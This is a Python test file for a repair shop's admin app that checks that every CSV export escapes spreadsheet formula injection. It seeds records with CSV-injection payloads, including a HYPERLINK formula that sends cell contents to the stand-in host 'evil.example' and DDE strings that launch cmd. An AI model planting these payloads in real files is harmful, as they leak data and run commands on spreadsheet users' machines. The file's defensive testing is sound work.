"""Every CSV the back office hands out is safe to open in a spreadsheet (OWASP CSV injection).

The exporting views are enumerated from Flask-Admin's registered views (``can_export``), the
other CSV pages from the URL map (``*.csv``). Each gets rows whose text starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return; no cell of the file may start with one, and
the payloads must be there, quoted (a file without them would prove nothing).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from fixmyphone import models
from fixmyphone.extensions import db
from fixmyphone.services import exports, reports

from .. import factories
from ..conftest import client_for
from .endpoints import model_views
from .world import World

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, CMD, "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\tTAB", "\rCR")


def _payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def _users(world: World) -> None:
    for n, role in enumerate(("customer", "technician", "admin", "superadmin")):
        world.account(role).full_name = _payload(n)


def _repairs(world: World) -> None:
    # Row 7 of the report: a customer's name and a device brand written to the CSV as they are.
    customer = factories.CustomerFactory(full_name=HYPERLINK)
    for n in range(len(PAYLOADS)):
        factories.ServiceRequestFactory(
            customer=customer, brand=CMD if n == 0 else _payload(n), model=_payload(n + 1)
        )


def _parts(world: World) -> None:
    for n in range(len(PAYLOADS)):
        factories.PartFactory(name=_payload(n), compatible_models=_payload(n + 2))


def _payments(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.payment().reference = _payload(n)


def _movements(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.stock_movement().note = _payload(n)


def _audit(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.audit_entry().object_id = _payload(n)


def _notifications(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.notification("failed", "email").subject = _payload(n)


def _appointments(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.appointment().cancel_reason = _payload(n)


def _shifts_and_time_off(world: World) -> None:
    for n in range(len(PAYLOADS)):
        world.time_off().reason = _payload(n)
        world.shift().technician.user.full_name = _payload(n)


# model -> rows whose exported text starts with a formula character
HOSTILE_ROWS: dict[type, Callable[[World], None]] = {
    models.User: _users,
    models.ServiceRequest: _repairs,
    models.Part: _parts,
    models.Payment: _payments,
    models.StockMovement: _movements,
    models.AuditLog: _audit,
    models.Notification: _notifications,
    models.Appointment: _appointments,
    models.Shift: _shifts_and_time_off,
    models.TimeOff: _shifts_and_time_off,
}


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


def _check(body: str, where: str) -> list[str]:
    problems = []
    cells = _cells(body)
    bad = [c for c in cells if c.startswith(exports.FORMULA_STARTS)]
    if bad:
        problems.append(f"{where}: formula cells {bad[:3]!r}")
    quoted = [c for c in cells if c.startswith("'") and c[1:].startswith(exports.FORMULA_STARTS)]
    if not quoted:
        problems.append(f"{where}: no hostile cell reached the file (the check proved nothing)")
    return problems


def _exporting_views(app):
    return [view for view in model_views(app) if view.can_export]


def test_the_exporting_views_are_found(app):
    endpoints = {view.endpoint for view in _exporting_views(app)}
    # The exports of the security report (customers, requests) are among them.
    assert {"admin_customers", "admin_requests"} <= endpoints


@pytest.mark.parametrize("role", ["superadmin"])
def test_every_admin_export_neutralises_formulas(app, role):
    world = World()
    views = _exporting_views(app)
    missing = [v.endpoint for v in views if v.model not in HOSTILE_ROWS]
    assert not missing, f"no hostile rows for {missing} (tests/security/test_exports.HOSTILE_ROWS)"
    for filler in {HOSTILE_ROWS[v.model] for v in views}:
        filler(world)
    db.session.commit()
    client, _ = client_for(app, world.users[role])
    problems = []
    for view in views:
        response = client.get(f"{view.url}/export/csv/")
        assert response.status_code == 200, view.endpoint
        assert response.mimetype == "text/csv"
        problems += _check(response.get_data(as_text=True), view.endpoint)
    assert not problems, "\n".join(problems)


def test_the_other_csv_files_neutralise_formulas(app):
    world = World()
    _parts(world)
    _repairs(world)
    db.session.commit()
    client, _ = client_for(app, world.users["admin"])
    pages = sorted(
        rule.rule
        for rule in app.url_map.iter_rules()
        if rule.rule.startswith("/admin/") and rule.rule.endswith(".csv")
    )
    assert pages, "no CSV pages found"
    problems = []
    for page in pages:
        urls = (
            [page.replace("<report>", name) for name in reports.TABLES]
            if "<report>" in page
            else [page]
        )
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            body = response.get_data(as_text=True)
            bad = [c for c in _cells(body) if c.startswith(exports.FORMULA_STARTS)]
            if bad:
                problems.append(f"{url}: formula cells {bad[:3]!r}")
    # The parts file and the device report carry the payloads, quoted.
    assert not _check(client.get("/admin/parts/export.csv").get_data(as_text=True), "parts")
    top = client.get("/admin/reports/top_device_models.csv").get_data(as_text=True)
    assert f"'{CMD}" in _cells(top)
    assert not problems, "\n".join(problems)


def test_a_quoted_cell_reads_back_as_typed_on_import(app):
    """The parts CSV round-trips: what was exported quoted is imported as it was typed."""
    assert exports.read_cell(exports.safe_cell(CMD)) == CMD
    assert exports.safe_cell(-3) == -3  # numbers stay numbers
    assert exports.safe_cell("Screen =1") == "Screen =1"
